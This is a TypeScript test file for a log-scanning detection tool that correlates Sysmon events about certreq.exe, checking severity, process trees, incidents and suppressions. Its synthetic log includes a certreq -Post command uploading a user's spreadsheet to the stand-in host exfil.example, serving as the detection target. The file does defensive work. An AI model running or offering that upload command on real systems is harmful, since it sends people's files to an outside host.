/**
 * Correlation through the real CLI: a Windows XML log written here (Sysmon 5 before 1 in file order, two hosts
 * interleaved, a reused-nothing parent chain), scanned with `procwatch scan`; the ECS `procwatch` object
 * carries severity, reason, certreq intent, tree, lifetime, evidence and incidents; `--config` suppressions
 * are counted.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { jsonLines, runCli } from '../helpers/cli.js';

const NS = 'http://schemas.microsoft.com/win/2004/08/events/event';
const esc = (s: string): string => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');

let record = 100;
function xmlEvent(eventId: number, host: string, time: string, data: Record<string, string>): string {
  const fields = Object.entries(data).map(([k, v]) => `<Data Name="${k}">${esc(v)}</Data>`).join('');
  return `<Event xmlns="${NS}"><System><Provider Name="Microsoft-Windows-Sysmon" Guid="{5770385f-c22a-43e0-bf4c-06f5698ffbd9}"/><EventID>${eventId}</EventID><TimeCreated SystemTime="${time}"/><EventRecordID>${++record}</EventRecordID><Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>${host}</Computer></System><EventData>${fields}</EventData></Event>`;
}

function start(host: string, time: string, guid: string, pid: number, image: string, cmd: string, parentGuid: string, ppid: number, user: string): string {
  return xmlEvent(1, host, time, { ProcessGuid: `{${guid}}`, ProcessId: String(pid), Image: image, OriginalFileName: image.endsWith('certreq.exe') ? 'CertReq.exe' : 'Cmd.Exe', CommandLine: cmd, User: user, ParentProcessGuid: `{${parentGuid}}`, ParentProcessId: String(ppid) });
}

const CERTREQ = 'C:\\Windows\\System32\\certreq.exe';
const CMD = 'C:\\Windows\\System32\\cmd.exe';
const G = (n: number): string => `3fc4fefd-1a2b-6632-7700-${String(n).padStart(12, '0')}`;

function writeLog(): string {
  const dir = mkdtempSync(join(tmpdir(), 'pw-correlate-'));
  const file = join(dir, 'sysmon.xml');
  const events = [
    // Termination first in file order.
    xmlEvent(5, 'WS01', '2024-05-01T10:15:32.0000000Z', { ProcessGuid: `{${G(2)}}`, ProcessId: '6120', Image: CERTREQ }),
    start('WS02', '2024-05-01T10:15:00.0000000Z', G(10), 700, CERTREQ, 'certreq -submit -config "ca01\\Corp-CA" req.csr cert.cer', G(9), 600, 'CORP\\svc_pki'),
    start('WS01', '2024-05-01T10:15:30.1234567Z', G(2), 6120, CERTREQ, 'certreq -Post -config https://exfil.example/u C:\\Users\\bob\\Documents\\q3.xlsx', G(1), 5004, 'CORP\\alice'),
    start('WS01', '2024-05-01T10:15:00.0000000Z', G(1), 5004, CMD, 'cmd.exe', G(0), 4000, 'CORP\\alice'),
    xmlEvent(3, 'WS01', '2024-05-01T10:15:30.5000000Z', { ProcessGuid: `{${G(2)}}`, ProcessId: '6120', Image: CERTREQ, Protocol: 'tcp', DestinationIp: '203.0.113.9', DestinationHostname: 'exfil.example', DestinationPort: '443' }),
    start('WS01', '2024-05-01T10:20:00.0000000Z', G(3), 6200, CERTREQ, 'certreq -accept cert.cer', G(1), 5004, 'CORP\\alice'),
  ];
  writeFileSync(file, `<Events>\n${events.join('\n')}\n</Events>\n`);
  return file;
}

test('scan: the procwatch object of each alert answers the analyst\'s questions', async () => {
  const file = writeLog();
  const r = await runCli(['scan', file, '--format', 'jsonl', '--quiet']);
  assert.equal(r.code, 0, r.stderr);
  const docs = jsonLines(r.stdout).filter((d) => d['rule'].id === 'certreq-download-upload');
  assert.equal(docs.length, 3, r.stdout);
  const byCmd = (s: string): Record<string, any> => docs.find((d) => String(d['process']?.command_line ?? d['winlog'].event_data.CommandLine).includes(s))!['procwatch']; // eslint-disable-line @typescript-eslint/no-explicit-any
  const post = byCmd('-Post');
  assert.equal(post.severity, 'critical');
  assert.match(post.reason, /exfiltration/);
  assert.equal(post.certreq.verb, 'post');
  assert.equal(post.certreq.url, 'https://exfil.example/u');
  assert.equal(post.certreq.upload_file, 'C:\\Users\\bob\\Documents\\q3.xlsx');
  assert.equal(post.process_tree.parents[0].executable, CMD);
  assert.equal(post.lifetime.still_running, false, 'the termination earlier in the file is found');
  assert.equal(post.lifetime.duration_ms, 1876.543, "sub-millisecond precision kept (100 ns ticks)");
  assert.equal(post.evidence.network[0].destination_hostname, 'exfil.example');
  assert.deepEqual(post.matched_rules.sort(), ['certreq-download-upload', 'certreq-post-url-no-winini']);
  const accept = byCmd('-accept');
  assert.equal(accept.severity, 'low');
  assert.equal(accept.incident.id, post.incident.id, 'same host within 30 min: same incident');
  assert.equal(accept.incident.new, false);
  assert.equal(post.incident.severity, 'critical');
  const other = byCmd('-submit');
  assert.notEqual(other.incident.id, post.incident.id, 'another host, another incident');
});

test('scan --config: suppressions are counted, hidden by default and shown with --show-suppressed', async () => {
  const file = writeLog();
  const config = join(file, '..', 'procwatch.yml');
  writeFileSync(config, 'suppressions:\n  - id: pki-submit\n    reason: PKI service account enrolls\n    user: svc_pki\n    rule: certreq-download-upload\n');
  const hidden = await runCli(['scan', file, '--format', 'jsonl', '--config', config]);
  assert.equal(hidden.code, 0, hidden.stderr);
  assert.ok(!jsonLines(hidden.stdout).some((d) => d['procwatch'].suppressed), 'suppressed alerts are not shown by default');
  assert.match(hidden.stderr, /suppressed/);
  const shown = await runCli(['scan', file, '--format', 'jsonl', '--config', config, '--show-suppressed', '--quiet']);
  const suppressed = jsonLines(shown.stdout).filter((d) => d['procwatch'].suppressed);
  assert.equal(suppressed.length, 1);
  assert.deepEqual(suppressed[0]!['procwatch'].suppressed, { by: 'pki-submit', reason: 'PKI service account enrolls' });
});
